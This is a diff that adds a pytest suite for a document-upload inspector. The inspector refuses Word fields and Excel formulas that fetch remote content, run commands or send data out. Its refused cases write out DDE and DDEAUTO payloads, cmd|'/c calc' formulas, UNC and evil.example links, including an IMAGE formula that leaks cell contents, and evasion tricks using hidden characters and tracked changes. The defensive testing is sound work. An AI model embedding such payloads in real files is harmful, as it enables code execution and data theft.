@@ -1,0 +1,148 @@
+"""What Word and Excel files may have filled in by themselves, and what of it would reach out of them."""
+
+from contextlib import suppress
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cse_portal.files import FileRefused, inspect
+from cse_portal.files.fields import FieldActs, check
+from cse_portal.files.formulas import reaches
+from tests.factories.documents import excel, word
+from tests.unit.files.hostile import FIELD, SHEET
+
+BEGIN, MIDDLE, END = (
+    f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
+)
+CHOICE = (
+    '<mc:AlternateContent xmlns:mc="mc"><mc:Choice Requires="x">{}</mc:Choice>'
+    "<mc:Fallback>{}</mc:Fallback></mc:AlternateContent>"
+)
+
+
+def code(text: str) -> str:
+    """A piece of a field's code."""
+    return f"<w:r><w:instrText>{text}</w:instrText></w:r>"
+
+
+def is_taken(markup: str) -> bool:
+    """Whether a letter with this in its header is."""
+    with suppress(FileRefused):
+        return bool(inspect("letter.docx", word({"word/header1.xml": FIELD.format(markup)})))
+    return False
+
+
+def field(*pieces: str) -> str:
+    return BEGIN + "".join(pieces) + MIDDLE + "<w:r><w:t>1</w:t></w:r>" + END
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        " PAGE ", r"PAGE\* MERGEFORMAT", r' TOC \o "1-3" \h \z \u ', r" PAGEREF _Toc123 \h ", " NUMPAGES ",
+        r' HYPERLINK "https://www.example.org/hidden/link/import" \t "_blank" ', r' HYPERLINK \l "_Toc123" ',
+        r' HYPERLINK "mailto:duty@example.org" \o "Note: the duty desk" ', r" REF _Ref12 \h ",
+        r' DATE \@ "d MMMM yyyy" ',
+        ' ADDIN ZOTERO_ITEM CSL_CITATION {"title":"The link between: DDE, import and database"} ', " FORMTEXT ",
+        " MERGEFIELD Name ", ' IF 1 = 1 "yes" "no" ', " =SUM(ABOVE) ", r" SEQ Table \* ARABIC ", ' XE "link road" ', "",
+    ],
+)  # fmt: skip
+def test_what_an_ordinary_letter_fills_in_is_taken(text: str) -> None:
+    quoted = text.replace('"', "&quot;")
+    assert is_taken(field(code(text)))
+    assert is_taken(f'<w:fldSimple w:instr="{quoted}"><w:r><w:t>1</w:t></w:r></w:fldSimple>')
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r'LINK Excel.Sheet.12 "\\\\evil.example\\s\\a.xlsx" "Sheet1!R1C1" \a \f 0', r'IMPORT "\\\\evil.example\\a.png"',
+        r'DATABASE \d "\\\\evil\\a.mdb" \c "q" \s "select"', r'RD "\\\\evil\\a.docx"', 'INCLUDE "http://x"', "EMBED x",
+        "INCLUDETEXT x", r"INCLUDEPICTURE\d x", 'dde"cmd" x', "DDEAUTO x", "PRINT x", "QUOTE 68 68 69", "CONTROL x",
+        '"PAGE"', "\u00a0DDEAUTO x", "PAGE\u200bDDEAUTO x", "SOMETHING", r'HYPERLINK "file:///c:/x"',
+        r'HYPERLINK \t "_blank" "\\\\evil\\s"', r"HYPERLINK \\\\evil\\s", "HYPERLINK javascript:alert(1)",
+        'HYPERLINK "ms-msdt:x"',
+    ],
+)  # fmt: skip
+def test_what_reads_from_elsewhere_or_is_not_known_is_refused(text: str) -> None:
+    quoted = text.replace('"', "&quot;")
+    assert not is_taken(field(code(text)))
+    assert not is_taken(field(*(code(letter) for letter in text)))
+    assert not is_taken(BEGIN + code(text))
+    assert not is_taken(f'<w:fldSimple w:instr="{quoted}"/>')
+
+
+def test_a_field_within_another_may_give_its_words_but_not_its_code() -> None:
+    inner = field(code(" MERGEFIELD x "))
+    assert is_taken(BEGIN + code(" IF ") + inner + code(' = "a" "b" "c" ') + MIDDLE + END)
+    assert is_taken(field(code(' TOC \\o "1-3" ')).replace("<w:r><w:t>1</w:t></w:r>", inner + inner))
+    assert not is_taken(BEGIN + inner + code("x") + MIDDLE + END)
+    assert not is_taken(BEGIN + code(" IF ") + field(code("DDEAUTO x")) + MIDDLE + END)
+
+
+@pytest.mark.parametrize(
+    "markup",
+    [
+        field(CHOICE.format(code("PAGE "), ""), code("DDEAUTO x")),
+        field(CHOICE.format(code("PAGE "), code("DDEAUTO x"))),
+        BEGIN + CHOICE.format(code("PAGE ") + MIDDLE, "") + code("DDEAUTO x") + END,
+        CHOICE.format(BEGIN + code("PAGE "), code("DDEAUTO x") + END),
+        field('<z:z xmlns:z="z">' + code("PAGE ") + "</z:z>", code("DDEAUTO x")),
+        field('<z:instrText xmlns:z="z">PAGE </z:instrText>', code("DDEAUTO x")),
+        '<z:fldSimple xmlns:z="z" z:instr="PAGE"/>',
+        '<w:fldSimple xmlns:z="z" w:instr="DDEAUTO x" z:instr="PAGE"/>',
+        field("<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>", code("DDEAUTO x")),
+        field(code("D"), "<w:del><w:r><w:delInstrText>x</w:delInstrText></w:r></w:del>", code("DEAUTO x")),
+        field("<w:ins>" + code("PAGE ") + "</w:ins>", code("DDEAUTO x")),
+        code("PAGE ") + field(code("DDEAUTO x")),
+        field(code("PAGE<z/>")),
+    ],
+)  # fmt: skip
+def test_a_harmless_word_that_a_program_passes_over_hides_none_that_acts(markup: str) -> None:
+    assert not is_taken(markup)
+
+
+def test_a_box_drawn_twice_has_its_numbers_of_pages_and_changes_may_be_tracked() -> None:
+    box = '<v:textbox xmlns:v="v"><w:txbxContent>' + field(code(" PAGE ")) + "</w:txbxContent></v:textbox>"
+    assert is_taken("<w:r>" + CHOICE.format(box, box) + "</w:r>")
+    assert is_taken(field(code(" TOC ")).replace("<w:r><w:t>1</w:t></w:r>", CHOICE.format(box, box)))
+    assert is_taken(field(code(" DATE "), "<w:ins>" + code(r'\@ "yyyy"') + "</w:ins>"))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A1:A3)", "'Jan:Dec'!A1", "'Zoë''s list'!A1", "Table1[[#This Row],[Either/or | both]]", "[0]!Names",
+        '"see IMAGE (page 2), http://x or a|b"', "'a|b'!A1+'c \"d\" e'!A1", 'HYPERLINK("https://example.org","x")',
+        "IMAGES(A1)", "A1/B1", "'[0]x'!A1", "Sheet1!A1*Table1[a]+Sheet2!B1", "RECALL(A1)",
+    ],
+)  # fmt: skip
+def test_what_an_ordinary_workbook_calculates_is_taken(formula: str) -> None:
+    assert not reaches(formula)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        'WEBSERVICE("http://e/")', '_xlfn.IMAGE("https://evil.example/p?"&A1)', '_xlfn._xlws.STOCKHISTORY("MSFT")',
+        "cmd|'/c calc'!A0", "'cmd'|'/c calc'!A0", r"'\\evil\s\[a.xlsx]S'!A1", r"\\evil\s\[a.xlsx]S!A1", "[1]Sheet1!A1",
+        "'[a.xlsx]S'!A1", "'https://evil.example/[a.xlsx]S'!A1", "'c:\\x.xlsx'!Name", 'image ("x")', "_xlws.PY(1)",
+        "'a\"b'!A1+WEBSERVICE(A1)&'c\"d'!A1", '"x"&CALL("x","y")', 'REGISTER.ID("x")', 'RTD("x",,"y")',
+        "SQL.REQUEST(1)", 'CUBEVALUE("x")',
+    ],
+)  # fmt: skip
+def test_a_formula_that_reaches_out_of_the_workbook_is_refused(formula: str) -> None:
+    assert reaches(formula)
+    written = formula.replace("&", "&amp;")
+    for name in ("f", "x:formula1 xmlns:x='y'"):
+        part = SHEET.format(f"<{name}>{written}</{name.split()[0]}>")
+        with pytest.raises(FileRefused, match="reads data from elsewhere"):
+            inspect("table.xlsx", excel({"xl/worksheets/sheet1.xml": part}))
+
+
+@given(st.text(st.sampled_from("'\"[]!|\\/0aA(). "), max_size=40))
+def test_no_formula_is_too_odd_to_be_looked_at(formula: str) -> None:
+    assert reaches(formula) in (True, False)
+    with suppress(FieldActs):
+        check(formula)
